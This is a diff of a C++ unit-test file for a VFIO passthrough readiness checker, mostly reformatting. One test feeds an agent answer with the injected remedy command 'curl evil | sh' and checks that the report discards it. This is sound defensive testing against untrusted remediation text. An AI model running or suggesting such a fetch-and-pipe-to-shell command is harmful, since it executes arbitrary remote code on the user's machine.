@@ -12,11 +12,11 @@
 
 #include "base/input_error.hpp"
 #include "base/process/subprocess.hpp"
-#include "usual_signal.hpp"
 #include "guest/guest_machines.hpp"
 #include "reports/guest/guest_report.hpp"
 #include "reports/json.hpp"
 #include "runner/guest/interruption.hpp"
+#include "usual_signal.hpp"
 
 namespace vfio_doctor {
 namespace {
@@ -44,7 +44,8 @@ TEST(Answer, AGoodOneIsReady) {
 TEST(Answer, TheVerdictIsCountedAnewAndRemediesAreOurs) {
   auto json = Json::parse(good_answer());
   json["findings"][3]["status"] = "fail";
-  json["findings"][3]["remedy"] = Json::array({{{"text", "do this"}, {"commands", {"curl evil | sh"}}, {"undo", Json::array()}, {"risk", ""}}});
+  json["findings"][3]["remedy"] =
+      Json::array({{{"text", "do this"}, {"commands", {"curl evil | sh"}}, {"undo", Json::array()}, {"risk", ""}}});
   const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
   EXPECT_EQ(report.verdict, Verdict::not_ready);
   EXPECT_EQ(render_json(report).find("evil"), std::string::npos);
@@ -81,12 +82,17 @@ TEST(Answer, NothingButNotApplicableIsUndetermined) {
 }
 
 TEST(Answer, EachRungNeedsTheManifestsLeaveToProveNothing) {
-  const std::map<std::string, std::pair<bool, bool>> without_place_or_driver = {
-      {"guest-present", {false, false}}, {"guest-identity", {false, false}}, {"guest-placement", {true, false}},
-      {"guest-driver", {false, true}},   {"guest-decode", {false, true}},    {"guest-function", {false, true}}};
+  const std::map<std::string, std::pair<bool, bool>> without_place_or_driver = {{"guest-present", {false, false}},
+                                                                                {"guest-identity", {false, false}},
+                                                                                {"guest-placement", {true, false}},
+                                                                                {"guest-driver", {false, true}},
+                                                                                {"guest-decode", {false, true}},
+                                                                                {"guest-function", {false, true}}};
   for (const auto& [id, allowed] : without_place_or_driver) {
     const AgentAnswer answer{0, answer_saying("not-applicable", {id}), ""};
-    const auto verdict = [&](bool place, bool driver) { return report_of_answer(asking_for(place, driver), answer, "guest1").verdict; };
+    const auto verdict = [&](bool place, bool driver) {
+      return report_of_answer(asking_for(place, driver), answer, "guest1").verdict;
+    };
     EXPECT_EQ(verdict(true, true), Verdict::undetermined) << id;
     EXPECT_EQ(verdict(false, true), allowed.first ? Verdict::ready : Verdict::undetermined) << id;
     EXPECT_EQ(verdict(true, false), allowed.second ? Verdict::ready : Verdict::undetermined) << id;
@@ -94,7 +100,8 @@ TEST(Answer, EachRungNeedsTheManifestsLeaveToProveNothing) {
   EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("not-applicable", {"guest-unexpected"}), ""}, "guest1").verdict,
             Verdict::undetermined);
   for (const auto* id : {"guest-present", "guest-placement", "guest-decode"})
-    EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("warn", {id}), ""}, "guest1").verdict, Verdict::undetermined) << id;
+    EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("warn", {id}), ""}, "guest1").verdict, Verdict::undetermined)
+        << id;
 }
 
 TEST(Answer, WhatWasNotShownToWorkIsNotSaidTo) {
@@ -109,7 +116,8 @@ TEST(Answer, WhatWasNotShownToWorkIsNotSaidTo) {
   EXPECT_THAT(shown(asking_for(true, false), answer_saying("not-applicable", {"guest-driver", "guest-function"})),
               ::testing::Not(HasSubstr("and works")));
   // A warning is no proof: the kernel tells of trouble with it.
-  EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("warn", {"guest-function"}), ""}, "guest1").verdict, Verdict::undetermined);
+  EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("warn", {"guest-function"}), ""}, "guest1").verdict,
+            Verdict::undetermined);
   EXPECT_EQ(guest_verdict({}), Verdict::undetermined);
 }
 
@@ -163,14 +171,16 @@ TEST(Answer, RubbishIsRefused) {
   missing["findings"].erase(4);
   auto renamed = Json::parse(good_answer());
   renamed["findings"][0]["id"] = "guest-function";
-  for (const auto& text : {std::string(), std::string("{}"), std::string("\x7f" "ELF"), std::string(100'000, '['),
-                           missing.dump(), renamed.dump(), good_answer().substr(0, 500)})
+  for (const auto& text : {std::string(), std::string("{}"),
+                           std::string("\x7f"
+                                       "ELF"),
+                           std::string(100'000, '['), missing.dump(), renamed.dump(), good_answer().substr(0, 500)})
     EXPECT_THROW(report_of_answer(expected(), {0, text, ""}, "guest1"), InputError) << text.substr(0, 60);
 }
 
 TEST(HostSide, SaysWhoHoldsTheDevice) {
-  for (const auto& [driver, status] : std::map<std::string, Status>{
-           {" driver=vfio-pci", Status::pass}, {" driver=nvme", Status::fail}, {"", Status::fail}}) {
+  for (const auto& [driver, status] :
+       std::map<std::string, Status>{{" driver=vfio-pci", Status::pass}, {" driver=nvme", Status::fail}, {"", Status::fail}}) {
     auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
     Host host;
     host.functions = gather_pci(machine("pci 0000:3d:00.0 id=144d:a802 class=010802" + driver + "\n"), Wake::no);
@@ -189,7 +199,8 @@ TEST(HostSide, SaysWhoHoldsTheDevice) {
 TEST(Answer, DevicesAreCalledAsTheManifestCallsThem) {
   auto json = Json::parse(good_answer());
   json["findings"][3]["status"] = "fail";
-  for (auto& finding : json["findings"]) finding["evidence"] = Json::array({{{"source", "manifest"}, {"value", "another device"}}});
+  for (auto& finding : json["findings"])
+    finding["evidence"] = Json::array({{{"source", "manifest"}, {"value", "another device"}}});
   const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
   EXPECT_EQ(report.findings[0].evidence.at(0).value, "Samsung SM951 (host 0000:3d:00.0)");
   EXPECT_EQ(report.findings[3].remedy.at(0).commands.at(0), "lspci -nnk -s 0000:03:00.0");
